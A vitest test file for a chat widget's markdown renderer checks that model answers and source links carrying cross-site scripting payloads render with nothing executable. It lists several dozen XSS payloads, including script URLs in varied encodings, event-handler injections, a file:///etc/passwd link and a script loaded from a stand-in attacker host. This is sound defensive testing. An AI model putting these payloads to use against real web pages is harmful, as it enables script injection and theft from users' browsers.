import { cleanup, fireEvent, render, screen } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";
import { ChatWidget } from "../components/chat-widget";
import { type ChatApiServer, startChatApiServer } from "../test/chat-api-server";
import { Markdown } from "./render-markdown";

/**
 * Classic cross-site scripting payloads an answer could carry, whether a model wrote them or a
 * crawled page slipped them into the knowledge: script URLs in every casing and encoding, raw
 * HTML, entities and markdown image and link tricks.
 */
const PAYLOADS = [
  "[clic](javascript:alert(1))",
  "[clic](JavaScript:alert(1))",
  "[clic](JAVASCRIPT:alert(1))",
  "[clic]( javascript:alert(1) )",
  "[clic](java\tscript:alert(1))",
  "[clic](\u0001javascript:alert(1))",
  "[clic](javascript&#58;alert(1))",
  "[clic](&#106;avascript:alert(1))",
  "[clic](javascript%3Aalert(1))",
  "[clic](vbscript:msgbox(1))",
  "[clic](VBScript:msgbox(1))",
  "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[clic](DATA:text/html,<script>alert(1)</script>)",
  "[clic](file:///etc/passwd)",
  '[clic](javascript:alert(1) "titre")',
  "[clic][ref]\n\n[ref]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "![img](javascript:alert(1))",
  '![img](x" onerror="alert(1))',
  "![img](data:image/svg+xml,<svg onload=alert(1)>)",
  "[![img](https://example.org/a.png)](javascript:alert(1))",
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  '<img src=x onerror="alert(1)">',
  "<svg onload=alert(1)>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">clic</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  "<body onload=alert(1)>",
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  "**<img src=x onerror=alert(1)>**",
  '[clic](https://example.org "onmouseover=alert(1)")',
] as const;

/** Elements that run script, load content or submit forms: none may come out of an answer. */
const ACTIVE_ELEMENTS =
  "script, iframe, frame, object, embed, img, svg, math, style, link, meta, base, form, input, button, video, audio, source";
const URL_ATTRIBUTES = ["href", "src", "action", "formaction", "xlink:href", "data", "background"];
const SAFE_PROTOCOLS = ["http:", "https:", "mailto:", "irc:", "ircs:", "xmpp:"];

/** Every way the rendered answer could run script, as readable lines. */
function executableParts(container: HTMLElement): string[] {
  const found = [...container.querySelectorAll(ACTIVE_ELEMENTS)].map(
    (element) => `<${element.tagName.toLowerCase()}> element`,
  );
  for (const element of container.querySelectorAll("*")) {
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith("on")) found.push(`${name} attribute`);
      if (name === "style") found.push("style attribute");
      if (URL_ATTRIBUTES.includes(name)) {
        // How a browser reads the address, control characters and whitespace stripped.
        const protocol = new URL(attribute.value, "https://host.example/page").protocol;
        if (!SAFE_PROTOCOLS.includes(protocol)) found.push(`${name}="${attribute.value}"`);
      }
    }
  }
  return found;
}

describe("answers carrying script", () => {
  it.each(PAYLOADS)("render %j without anything that runs", (payload) => {
    const { container } = render(<Markdown source={payload} />);
    expect(executableParts(container)).toEqual([]);
  });

  it("show raw HTML as the text it is", () => {
    const { container } = render(<Markdown source={"<script>alert(1)</script> et <b>gras</b>"} />);
    expect(container.textContent).toBe("<script>alert(1)</script> et <b>gras</b>");
    expect(container.querySelector("b")).toBeNull();
  });

  it("keep the text of a blanked link readable", () => {
    const { container } = render(<Markdown source="Voir [la page](javascript:alert(1))." />);
    expect(container.textContent).toBe("Voir la page.");
    expect(container.querySelector("a")).toBeNull();
  });

  it("still link the safe addresses beside them", () => {
    const { container } = render(
      <Markdown source="[a](https://example.org) [b](javascript:alert(1)) [c](mailto:x@example.org)" />,
    );
    expect([...container.querySelectorAll("a")].map((a) => a.getAttribute("href"))).toEqual([
      "https://example.org",
      "mailto:x@example.org",
    ]);
  });

  it("catch an executable link when one gets through", () => {
    const container = document.createElement("div");
    container.innerHTML = '<a href=" JaVa&#x09;ScRiPt:alert(1)">x</a><span onclick="x()"></span>';
    expect(executableParts(container)).toEqual([
      'href=" JaVa\tScRiPt:alert(1)"',
      "onclick attribute",
    ]);
  });
});

describe("answers carrying script, as the widget receives them from the API", () => {
  let api: ChatApiServer | undefined;
  afterEach(async () => {
    cleanup();
    // Let the session close sent on unmount reach the server before it stops.
    await new Promise((resolve) => setTimeout(resolve, 100));
    await api?.close();
    localStorage.clear();
  });

  it.each([true, false])("draw nothing that runs (streaming: %s)", async (streaming) => {
    localStorage.setItem("chat-privacy-consent-1", "true");
    api = await startChatApiServer({
      streaming,
      welcomeMessage: '<img src=x onerror="alert(1)"> Bienvenue [ici](javascript:alert(1))',
      answer: () => ({
        answer: `${PAYLOADS.join("\n\n")}\n\nFin du corpus.`,
        links: [
          { url: "javascript:alert(1)", chunk: "<script>alert(1)</script>" },
          { url: "https://example.org/source", chunk: "Un extrait" },
        ],
      }),
    });
    const { container } = render(
      <ChatWidget botId={1} apiBaseUrl={api.url} streaming={streaming} defaultOpen />,
    );
    await screen.findByText(/Bienvenue/, { ignore: "[aria-live]" }, { timeout: 4000 });
    const question = screen.getByPlaceholderText("Posez votre question ici...");
    fireEvent.change(question, { target: { value: "Montre-moi" } });
    fireEvent.keyDown(question, { key: "Enter" });
    await screen.findByText("Fin du corpus.", { ignore: "[aria-live]" }, { timeout: 4000 });
    await screen.findByText("Sources (2)");

    const drawn = [...container.querySelectorAll<HTMLElement>(".ami-markdown, .ami-sources")];
    expect(drawn.length).toBe(3);
    expect(drawn.flatMap(executableParts)).toEqual([]);
    expect(screen.getByRole("link", { name: "https://example.org/source" })).toBeTruthy();
    expect(screen.getByText("javascript:alert(1)").tagName).toBe("SPAN");
  });
});
